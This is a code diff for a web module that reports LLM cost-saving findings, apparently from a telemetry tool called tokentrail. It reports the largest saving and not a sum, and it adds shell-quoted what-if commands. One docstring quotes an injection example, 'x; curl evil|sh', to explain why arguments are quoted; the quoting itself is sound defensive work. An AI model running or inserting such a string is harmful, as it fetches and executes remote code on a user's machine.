@@ -6,10 +6,16 @@ the what-if shown with it is ``store.whatif`` of the matching scenario over the
 finding's scope (its run, or its service), so a reader can check the number and
 re-price variations of it. Service-scoped what-ifs re-price all of the service's calls
 in the range (every model), which is why their totals can exceed the finding's.
+
+Findings overlap: one run can be uncached_prefix, growing_uncached_input, context_growth
+and context_dead_weight at once, and one service's calls both batch and routing
+candidates, each fix re-pricing the same calls. Their savings do not add up, so the page
+leads with the largest single finding (``largest_savings_usd``), never a sum.
 """
 
 from __future__ import annotations
 
+import shlex
 from typing import Annotated, Any, Literal
 from urllib.parse import urlencode
 
@@ -19,6 +25,7 @@ from fastapi.responses import HTMLResponse
 from tokentrail.analysis import insights as ins
 from tokentrail.analysis import whatif as wi
 from tokentrail.store import Store
+from tokentrail.store.ui_reads import as_utc
 from tokentrail.web.api_models import Finding, InsightsPage, WhatIf
 from tokentrail.web.dependencies import StoreDep, templates
 from tokentrail.web.params import (
@@ -40,8 +47,7 @@ DEFAULT_LIMIT = 20
 # later findings link to theirs (whatif_url) instead of doubling the page's time.
 WHATIF_LIMIT = 10
 
-# Every kind the store may report (context_dead_weight arrives with migration 8).
-KINDS = tuple(dict.fromkeys((*ins.KINDS, ins.CONTEXT_DEAD_WEIGHT)))
+KINDS = ins.KINDS  # every kind the store may report
 
 # kind -> the what-if scenario that re-prices it (README, "Insights": each rule's
 # "Re-priced ..." sentence names the same alternative the scenario sums).
@@ -93,6 +99,21 @@ def whatif_url(scenario: str, span: TimeRange, *, run: str = "", service: str = 
     return "/api/whatif?" + urlencode(query)
 
 
+def whatif_command(scenario: str, span: TimeRange, *, run: str = "",
+                   service: str = "") -> str:
+    """The ``tokentrail whatif`` command line behind a finding, each argument quoted for
+    a POSIX shell: run ids and service names are telemetry, and a copy-pasted
+    ``--run 'x; curl evil|sh'`` must stay one argument."""
+    args = ["tokentrail", "whatif", scenario]
+    if run:
+        args += ["--run", run]
+    elif service:
+        args += ["--service", service]
+    args += ["--start", span.start.strftime("%Y-%m-%dT%H:%M:%S"),
+             "--end", span.end.strftime("%Y-%m-%dT%H:%M:%S")]
+    return shlex.join(args)
+
+
 def _whatif(store: Store, scenario: str, span: TimeRange, *, run: str = "",
             service: str = "", **settings: Any) -> WhatIf:
     row = store.whatif(scenario, span.start, span.end, run=run, service=service, **settings)
@@ -106,7 +127,10 @@ def _findings(store: Store, span: TimeRange, kinds: list[str], limit: int) -> In
     memo: dict[tuple[str, str, str], WhatIf] = {}
     findings = []
     for row in rows:
-        finding = Finding.model_validate(row)
+        # Naive datetimes from the store are UTC: made aware, the JSON gives their offset
+        # as the other twins do.
+        finding = Finding.model_validate({
+            **row, **{k: as_utc(row[k]) for k in ("first_seen", "last_seen") if row.get(k)}})
         scenario = SCENARIO_OF_KIND.get(finding.kind)
         if scenario:
             run = finding.run_ids[0] if finding.scope == "run" and finding.run_ids else ""
@@ -116,14 +140,15 @@ def _findings(store: Store, span: TimeRange, kinds: list[str], limit: int) -> In
                 memo[key] = _whatif(store, scenario, span, run=run, service=service)
             finding.whatif = memo.get(key)
             finding.whatif_url = whatif_url(scenario, span, run=run, service=service)
+            finding.whatif_command = whatif_command(scenario, span, run=run, service=service)
             finding.basis = (f"these calls re-priced under the what-if scenario "
                              f"{scenario!r}: {wi.SCENARIOS[scenario][1]}")
         else:
             finding.basis = BASIS_OF_KIND.get(finding.kind, "")
         findings.append(finding)
-    total = sum(f.savings_usd or 0 for f in findings)
+    largest = max((f.savings_usd or 0 for f in findings), default=0.0)
     return InsightsPage(start=span.start, end=span.end, range=span.range, kinds=kinds,
-                        total_savings_usd=total, findings=findings)
+                        largest_savings_usd=largest, findings=findings)
 
 
 LimitQuery = Annotated[int, Query(ge=1, le=200, description="The top N findings")]
